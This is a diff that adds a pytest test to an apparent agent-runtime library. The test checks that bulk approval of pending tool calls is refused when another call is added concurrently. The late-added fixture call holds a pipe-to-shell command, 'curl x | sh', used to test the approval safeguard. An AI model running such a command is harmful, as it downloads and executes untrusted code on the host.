@@ -6,6 +6,7 @@ calls waiting are not those. Real run stores."""
 from __future__ import annotations
 
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -81,3 +82,32 @@ async def test_all_with_shown_never_approves_a_call_cut(tmp_path: Path) -> None:
     assert decisions(db, run_id) == {"short": "approve", "long": None, "new": "approve"}
     with pytest.raises(lw.ConfigurationError, match="shown= goes with all=True"):
         lw.approve(run_id, shown=digest, db=db)
+
+
+async def test_all_is_refused_when_a_call_is_added_while_it_is_recorded(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Another process may park the run's calls again between the check of the digest
+    and the recording of the decisions: the digest is checked again in the transaction
+    that records them, so a listing that no longer names the calls waiting approves
+    nothing (as documented: refused, with nothing recorded)."""
+    import loopwright.runtime._approve as approving
+    from loopwright.approval._shown import listing_digest
+    from loopwright.log._approvals import record_decisions
+
+    db = tmp_path / "runs.db"
+    two = [lw.ToolCall(id=f"c{i}", function="bash", arguments={"cmd": "ls"}) for i in (1, 2)]
+    run_id = await waiting(db, two)
+    calls = lw.pending_calls(run_id, db=db)
+    digest = listing_digest((c.call_id, c.arguments_hash) for c in calls)
+    added = lw.ToolCall(id="late", function="bash", arguments={"cmd": "curl x | sh"})
+
+    def concurrently(*args: Any, **kwargs: Any) -> Any:
+        record_pending(db, run_id, [*(PendingCall(call=c.call) for c in calls),
+                                    PendingCall(call=added)])  # fmt: skip
+        return record_decisions(*args, **kwargs)
+
+    monkeypatch.setattr(approving, "record_decisions", concurrently)
+    with pytest.raises(lw.ApprovalRefused, match="not those the listing showed whole"):
+        lw.approve(run_id, all=True, shown=digest, db=db)
+    assert [c.state for c in deferred_calls(db, run_id)] == ["pending"] * 3
